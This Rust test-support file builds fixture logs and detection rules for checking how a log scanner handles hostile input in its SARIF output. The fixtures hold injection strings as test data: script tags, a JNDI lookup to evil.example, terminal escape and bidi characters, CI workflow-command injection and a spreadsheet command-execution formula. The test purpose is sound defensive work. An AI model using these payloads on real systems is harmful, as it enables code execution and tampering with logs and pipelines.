//! Logs that SARIF files are made of: hostile text, odd names, containers, documents in one line.

use crate::support::{Folder, files, root};
use serde_json::json;
use std::fmt::Write as _;
use std::fs;
use std::io::{Cursor, Write};
use std::os::unix::ffi::OsStringExt;

/// How many alerts the loudest log has.
pub(crate) const CROWD: usize = 20_000;

/// What standard input says.
pub(crate) const LINE: &str = "{\"mark\":\"critical\",\"host\":\"stdin\",\"command\":\"id\"}\n";

/// A rule a level, each about the value of `command`.
fn rules() -> String {
    let level = |level: &str| {
        format!(
            "title: 'Mark {level} <img src=x> [link](https://evil.example) `code` {{0}}'\nname: mark-{level}\n\
             description: \"<b>bold</b> {{0}} {}\"\nlogsource: {{category: any}}\ndetection:\n    one: {{mark: {level}}}\n    \
             condition: one\nfields: [command]\nfalsepositives: ['{{1}} <script>']\n\
             references: ['https://evil.example/?q=<script>&x=%ff', 'javascript:alert(1)', 'https://example.org/a b']\n\
             level: {level}\ntags: [attack.t1059.001, attack.t9999, attack.execution, a.b, 'odd tag']\n",
            "long ".repeat(400)
        )
    };
    ["critical", "high", "medium", "low", "informational"].map(level).join("---\n")
}

fn event(level: &str, host: &str, command: &str) -> String {
    json!({"time": "2026-03-01T10:00:00Z", "mark": level, "host": host, "command": command}).to_string()
}

/// What an attacker would write, one record each.
fn hostile() -> Vec<String> {
    let long = "x".repeat(5_000);
    let wordy = "/a/path and more ".repeat(400);
    let values = [
        ("critical", "<script>alert(1)</script>"),
        ("critical", "[click](https://evil.example) [event 1](1) ](2)"),
        ("critical", "{0} {1:N} {{2}} ${jndi:ldap://evil.example/a}"),
        ("high", "`id` ``` **bold** _it_ \\(x\\)"),
        ("high", "\u{1b}[2J\u{1b}]0;title\u{7} \u{9b}31m \0\u{8}"),
        ("high", "\u{202e}gnp.exe \u{2066}a\u{2069} \u{200b}\u{feff}\u{2028}\u{2029}"),
        ("medium", "::error file=a::b\n::stop-commands::x\r\n##vso[task.complete] %0A::add-mask::"),
        ("medium", "🦀 漢字 עברית e\u{301} \u{FFFF}"),
        ("medium", "curl -H 'Authorization: Bearer abcdefghijklmnopqrstuvwxyz' --password=tops3cret"),
        ("low", &*long),
        ("low", &*wordy),
        ("low", "'quoted' \"double\" \\ back"),
        ("informational", "https://evil.example/?a=b#c <a href=x>"),
        ("informational", "=cmd()|' /C calc'!A0"),
        ("informational", ""),
    ];
    let mut lines: Vec<String> = values.iter().map(|(level, value)| event(level, value, value)).collect();
    // As other writers would: escapes of what cannot be text, and of what can.
    lines.push(r#"{"mark":"high","host":"\ud800","command":"lone \udfff \uffff \u0041"}"#.to_owned());
    lines
}

fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).expect("memory");
        writer.write_all(bytes).expect("memory");
    }
    writer.finish().expect("memory").into_inner()
}

fn tar(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, bytes) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        builder.append_data(&mut header, name, *bytes).expect("memory");
    }
    builder.into_inner().expect("memory")
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packed.write_all(bytes).expect("memory");
    packed.finish().expect("memory")
}

fn documents(folder: &Folder) {
    // Characters of two, three and four bytes before, in and behind records.
    let events: Vec<String> =
        (0..50).map(|n| event("high", "ü漢🦀", &format!("ü漢🦀 {n} {}", "é".repeat(n)))).collect();
    folder.write("line.json", format!("[{}]", events.join(" ,  ")));
    folder.write("envelope.json", format!("{{\"ü\":\"漢\",\"Records\":[{}]}}\n", events.join(",")));
    let pretty = |text: &String| {
        serde_json::to_string_pretty(&serde_json::from_str::<serde_json::Value>(text).expect("JSON")).expect("JSON")
    };
    let lines: Vec<String> = events.iter().take(9).map(pretty).collect();
    // Two on one line now and then.
    folder.write("lines.json", format!("[\n  {}\n]\n", lines.join("\n,\t").replacen("\n,\t", ", ", 3)));
}

fn several_lines(folder: &Folder) {
    let trace = "2026-03-01 10:00:00 ERROR one\n\tat x.y(Z.java:1)\n\tat ü.v(W.java:2)\n";
    folder.write("several/app.log", format!("{trace}2026-03-01 10:00:01 INFO two\n{trace}"));
    let table =
        "time,mark,host,command\r\n2026-03-01T10:00:00Z,high,a,\"one\r\ntwo ü\"\r\n2026-03-01T10:00:01Z,low,b,x\r\n";
    folder.write("several/table.csv", table);
    for name in ["interleaved.log", "users.log"] {
        let log = root().join("tests/formats/auditd").join(name);
        folder.write(&format!("several/{name}"), fs::read(log).expect("it is there"));
    }
}

fn odd_names(folder: &Folder, log: &str) {
    folder.write("odd/a b %25 ü #1 [x](y)/ä{0}&\"quoted\"/lög file;1.jsonl", log);
    folder.write("odd/Microsoft-Windows-Sysmon%4Operational.jsonl", log);
    folder.write("odd/more/c:x%4.jsonl", log);
    let raw = std::ffi::OsString::from_vec(b"raw\xff.jsonl".to_vec());
    fs::write(folder.path().join("odd/more").join(raw), log).expect("the folder can be written");
    let from = folder.path().join("odd").canonicalize().expect("it was written");
    folder.write("rewrites.yml", format!("path_rewrites: {{\"{}/\": \"elsewhere/\"}}\n", from.display()));
}

fn containers(folder: &Folder, log: &str) {
    let log = log.as_bytes();
    let inner = zip(&[("c d.jsonl", log)]);
    let bundle = gzip(&tar(&[("var/log/auth.jsonl", log), ("deep/b.zip", &inner)]));
    folder.write("packed/bundle.tar.gz", bundle);
    folder.write("packed/logs.zip", zip(&[("ä/x.jsonl", log)]));
    folder.write("packed/rotated.jsonl.2.gz", gzip(log));
}

/// Adds a log with an alert a line.
pub(crate) fn write_crowd(folder: &Folder) {
    let mut crowd = String::new();
    for n in 0..CROWD {
        let level = ["critical", "high", "medium", "low", "informational"][n % 5];
        writeln!(crowd, "{}", event(level, "h", &format!("run {n}"))).expect("memory");
    }
    folder.write("crowd.jsonl", crowd);
}

/// A folder with all of them, and the rules.
pub(crate) fn write() -> Folder {
    let folder = Folder::new();
    // The top of a work tree, which paths are relative to.
    folder.write(".git/HEAD", "");
    folder.write("rules.yml", rules());
    folder.write(
        "broken.yml",
        "title: [x](y) {0}\nlogsource: {category: any}\ndetection: {a: {b|nothing: 1}, condition: a}\n",
    );
    folder.write("ignore.yml", "- {rule: mark-low, reason: '[x](y) {0} `z`', permanent: true}\n- {rule: no-such, reason: x, expires: 2020-01-01}\n");
    let hostile = hostile();
    let log = hostile.join("\n") + "\n";
    folder.write("hostile.jsonl", &log);
    folder.write("nothing.log", "Mar  1 08:00:00 gate CRON[7]: (root) CMD (run-parts /etc/cron.hourly)\n");
    folder.write("empty.log", "");
    documents(&folder);
    several_lines(&folder);
    odd_names(&folder, &log);
    containers(&folder, &log);
    let utf16: Vec<u8> = log.encode_utf16().flat_map(u16::to_le_bytes).collect();
    folder.write("encodings/utf-16.jsonl", [&b"\xff\xfe"[..], &utf16].concat());
    folder.write("encodings/mark.jsonl", format!("\u{feff}{log}"));
    folder.write(
        "encodings/broken.jsonl",
        [log.replace("<script>", "\u{fffd}").as_bytes(), b"{\"mark\":\"low\",\"command\":\"a\xff\xfeb\"}\n"].concat(),
    );
    folder.write("windows/made.evtx", fs::read(root().join("tests/formats/evtx/made.evtx")).expect("it is there"));
    for from in ["examples/sample_logs", "tests/rules/correlation"] {
        for file in files(&root().join(from)) {
            let name = file.strip_prefix(root()).expect("it is below").to_string_lossy().replace('/', "-");
            folder.write(&format!("logs/{name}"), fs::read(&file).expect("it is there"));
        }
    }
    folder
}
